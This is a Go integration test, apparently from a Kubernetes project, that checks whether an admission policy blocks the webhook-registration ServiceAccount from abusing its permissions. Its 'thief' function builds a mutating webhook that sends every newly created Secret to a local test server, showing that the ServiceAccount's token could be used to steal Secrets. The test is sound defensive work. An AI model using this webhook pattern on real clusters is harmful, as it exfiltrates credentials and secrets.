package manifests_test

import (
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/isthmus-cloud/isthmus/manifests"
	"github.com/isthmus-cloud/isthmus/test/controlplane"
	"github.com/isthmus-cloud/isthmus/test/eventually"
	"github.com/isthmus-cloud/isthmus/webhooks/hosted"
	"github.com/isthmus-cloud/isthmus/webhooks/registration"
)

type mutatingConfiguration = admissionregistrationv1.MutatingWebhookConfiguration

// registrar writes webhook configurations as the shipped ServiceAccount.
type registrar struct {
	t      *testing.T
	client *kubernetes.Clientset
}

// mutating applies m, as registration does.
func (r *registrar) mutating(m *mutatingConfiguration, dryRun ...string) error {
	r.t.Helper()
	data, err := json.Marshal(m)
	if err != nil {
		r.t.Fatal(err)
	}
	force := true
	_, err = r.client.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(r.t.Context(), m.Name, types.ApplyPatchType, data,
		metav1.PatchOptions{FieldManager: "test", Force: &force, DryRun: dryRun})
	return err
}

func (r *registrar) validating(v *admissionregistrationv1.ValidatingWebhookConfiguration, dryRun ...string) error {
	r.t.Helper()
	data, err := json.Marshal(v)
	if err != nil {
		r.t.Fatal(err)
	}
	force := true
	_, err = r.client.AdmissionregistrationV1().ValidatingWebhookConfigurations().Patch(r.t.Context(), v.Name, types.ApplyPatchType, data,
		metav1.PatchOptions{FieldManager: "test", Force: &force, DryRun: dryRun})
	return err
}

// thief returns a webhook configuration that has every Secret sent to url.
func thief(t *testing.T, url string, caBundle []byte) *mutatingConfiguration {
	t.Helper()
	o := registration.NewOptions()
	o.Webhooks, o.Environment, o.URL = hosted.All(), environment(t), url
	m, _ := registration.Configurations(o, caBundle)
	m.Webhooks[0].ClientConfig.URL = &url
	m.Webhooks[0].MatchConditions, m.Webhooks[0].NamespaceSelector, m.Webhooks[0].ObjectSelector = nil, nil, nil
	m.Webhooks[0].Rules = []admissionregistrationv1.RuleWithOperations{{
		Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create},
		Rule:       admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"secrets"}},
	}}
	return m
}

// TestRegistrationCannotReadSecrets: who has the ServiceAccount's token has every Secret sent to
// himself by a webhook configuration, unless the policy that ships is there. It lets pass all that is
// registered with the shipped flags, and with others what it is edited for.
func TestRegistrationCannotReadSecrets(t *testing.T) {
	cp := controlplane.Start(t)
	admin, err := client.New(cp.Config, client.Options{})
	if err != nil {
		t.Fatal(err)
	}
	var policy []client.Object
	for _, object := range build(t, overlays[0]) {
		switch object.(type) {
		case *admissionregistrationv1.ValidatingAdmissionPolicy, *admissionregistrationv1.ValidatingAdmissionPolicyBinding:
			if object.GetName() == "isthmus-webhook-registration" {
				policy = append(policy, object)
				continue
			}
		}
		if err := admin.Create(t.Context(), object); err != nil {
			t.Fatal(err)
		}
	}
	if len(policy) != 2 {
		t.Fatalf("%d objects of the policy", len(policy))
	}
	config, err := cp.ServiceAccountConfig(t.Context(), manifests.Namespace, manifests.ServiceAccount, 0)
	if err != nil {
		t.Fatal(err)
	}
	sa := &registrar{t: t}
	if sa.client, err = kubernetes.NewForConfig(config); err != nil {
		t.Fatal(err)
	}
	var stolen atomic.Int64
	server := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if body, err := io.ReadAll(r.Body); err == nil && strings.Contains(string(body), "aHVudGVyMg==") {
			stolen.Add(1)
		}
		w.WriteHeader(http.StatusInternalServerError)
	}))
	t.Cleanup(server.Close)
	ca := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: server.Certificate().Raw})
	attack := thief(t, server.URL, ca)
	createSecret := func() {
		secret := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{GenerateName: "s", Namespace: "default"}, Data: map[string][]byte{"password": []byte("hunter2")}}
		if err := admin.Create(t.Context(), secret); err != nil {
			t.Fatal(err)
		}
	}

	// Without the policy.
	if err := sa.mutating(attack); err != nil {
		t.Fatal(err)
	}
	eventually.True(t, "without the policy, the Secret is stolen", func() bool { createSecret(); return stolen.Load() > 0 })
	if err := admin.Delete(t.Context(), attack.DeepCopy()); err != nil {
		t.Fatal(err)
	}

	// With it.
	for _, object := range policy {
		if err := admin.Create(t.Context(), object); err != nil {
			t.Fatal(err)
		}
	}
	refused := func(err error) bool {
		return err != nil && strings.Contains(err.Error(), "ValidatingAdmissionPolicy 'isthmus-webhook-registration'")
	}
	eventually.True(t, "the policy is in force", func() bool { return refused(sa.mutating(attack, metav1.DryRunAll)) })
	eventually.True(t, "nobody is sent Secrets", func() bool { stolen.Store(0); createSecret(); return stolen.Load() == 0 })
	if err := sa.mutating(attack); !refused(err) {
		t.Errorf("the attack: %v", err)
	}
	testShippedRegistration(t, sa, refused)
	testNoTokenOfOthers(t, sa)
	if err := sa.mutating(attack); !refused(err) {
		t.Errorf("the attack by an update: %v", err)
	}
	createSecret()
	if n := stolen.Load(); n != 0 {
		t.Errorf("%d Secrets were stolen", n)
	}
	testPolicyWithOtherFlags(t, sa, admin, policy[0].(*admissionregistrationv1.ValidatingAdmissionPolicy), refused)
}

// testNoTokenOfOthers: the one Secret that may be created is no token, which Kubernetes would fill in.
func testNoTokenOfOthers(t *testing.T, sa *registrar) {
	t.Helper()
	apply := func(kind, annotation string) error {
		data := fmt.Sprintf(`{"apiVersion":"v1","kind":"Secret","metadata":{"name":"isthmus-webhook-tls","annotations":{%q:"default"}},"type":%q}`, annotation, kind)
		_, err := sa.client.CoreV1().Secrets(manifests.Namespace).Patch(t.Context(), "isthmus-webhook-tls", types.ApplyPatchType, []byte(data),
			metav1.PatchOptions{FieldManager: "test", DryRun: []string{metav1.DryRunAll}})
		return err
	}
	if err := apply(string(corev1.SecretTypeServiceAccountToken), corev1.ServiceAccountNameKey); err == nil || !strings.Contains(err.Error(), "ValidatingAdmissionPolicy 'isthmus-webhook-certs'") {
		t.Errorf("a token of another ServiceAccount: %v, want that the policy refuses it", err)
	}
	if err := apply("isthmus-cloud.github.io/webhook-certificates", "x"); err != nil {
		t.Errorf("what ships: %v", err)
	}
}

// testShippedRegistration: what the shipped flags register may be written, and nothing else.
func testShippedRegistration(t *testing.T, sa *registrar, refused func(error) bool) {
	t.Helper()
	o := registration.NewOptions()
	o.Webhooks, o.Environment = hosted.All(), environment(t)
	m, v := registration.Configurations(o, nil)
	if err := sa.mutating(m); err != nil {
		t.Errorf("what ships: %v", err)
	}
	if err := sa.validating(v); err != nil {
		t.Errorf("what ships: %v", err)
	}
	other, fail := "other", admissionregistrationv1.Fail
	for name, change := range map[string]func(w *admissionregistrationv1.MutatingWebhook){
		"resource": func(w *admissionregistrationv1.MutatingWebhook) { w.Rules[0].Resources = []string{"secrets"} },
		"more": func(w *admissionregistrationv1.MutatingWebhook) {
			w.Rules[0].Resources = append(w.Rules[0].Resources, "secrets")
		},
		"everything": func(w *admissionregistrationv1.MutatingWebhook) { w.Rules[0].Resources = []string{"*"} },
		"subresource": func(w *admissionregistrationv1.MutatingWebhook) {
			w.Rules[0].Resources = []string{"persistentvolumes/status"}
		},
		"group": func(w *admissionregistrationv1.MutatingWebhook) { w.Rules[0].APIGroups = []string{"*"} },
		"rule": func(w *admissionregistrationv1.MutatingWebhook) {
			w.Rules = append(w.Rules, *w.Rules[0].DeepCopy())
			w.Rules[1].Resources = []string{"pods"}
		},
		"operation": func(w *admissionregistrationv1.MutatingWebhook) {
			w.Rules[0].Operations = []admissionregistrationv1.OperationType{"*"}
		},
		"name":      func(w *admissionregistrationv1.MutatingWebhook) { w.Name = "other.isthmus-cloud.github.io" },
		"service":   func(w *admissionregistrationv1.MutatingWebhook) { w.ClientConfig.Service.Name = other },
		"namespace": func(w *admissionregistrationv1.MutatingWebhook) { w.ClientConfig.Service.Namespace = other },
		"path":      func(w *admissionregistrationv1.MutatingWebhook) { *w.ClientConfig.Service.Path = "/" + other },
		"policy":    func(w *admissionregistrationv1.MutatingWebhook) { w.FailurePolicy = &fail },
	} {
		edited := m.DeepCopy()
		change(&edited.Webhooks[0])
		if err := sa.mutating(edited, metav1.DryRunAll); !refused(err) {
			t.Errorf("%s: %v, want that the policy refuses it", name, err)
		}
	}
	// What one kind may have is not the other's.
	swapped := v.DeepCopy()
	swapped.Webhooks[0].Name = m.Webhooks[0].Name
	swapped.Webhooks[0].Rules = m.Webhooks[0].Rules
	if err := sa.validating(swapped, metav1.DryRunAll); !refused(err) {
		t.Errorf("a webhook of the other kind: %v", err)
	}
	swapped = v.DeepCopy()
	swapped.Webhooks[0].Rules[0].Operations = []admissionregistrationv1.OperationType{admissionregistrationv1.Delete}
	if err := sa.validating(swapped, metav1.DryRunAll); !refused(err) {
		t.Errorf("another operation of a validating webhook: %v", err)
	}
}

// testPolicyWithOtherFlags edits the policy as docs/guides/webhooks.md says.
func testPolicyWithOtherFlags(t *testing.T, sa *registrar, admin client.Client, policy *admissionregistrationv1.ValidatingAdmissionPolicy, refused func(error) bool) {
	t.Helper()
	patch := []byte(`[
		{"op": "replace", "path": "/spec/variables/0/expression", "value": "['Ignore', 'Fail']"},
		{"op": "replace", "path": "/spec/variables/1/expression", "value": "['https://127.0.0.1:10260']"}]`)
	if err := admin.Patch(t.Context(), policy, client.RawPatch(types.JSONPatchType, patch)); err != nil {
		t.Fatal(err)
	}
	o := registration.NewOptions()
	o.Webhooks, o.Environment, o.URL, o.FailurePolicies = hosted.All(), environment(t), "https://127.0.0.1:10260", []string{"Fail"}
	m, v := registration.Configurations(o, nil)
	// A new Service reference would be merged with the URL.
	for _, kind := range []client.Object{m.DeepCopy(), v.DeepCopy()} {
		if err := admin.Delete(t.Context(), kind); err != nil {
			t.Fatal(err)
		}
	}
	eventually.True(t, "the edited policy is in force", func() bool {
		return sa.mutating(m, metav1.DryRunAll) == nil && sa.validating(v, metav1.DryRunAll) == nil
	})
	url := "https://127.0.0.1:10261/webhooks/persistentvolume-label"
	m.Webhooks[0].ClientConfig.URL = &url
	if err := sa.mutating(m, metav1.DryRunAll); !refused(err) {
		t.Errorf("another URL: %v", err)
	}
}
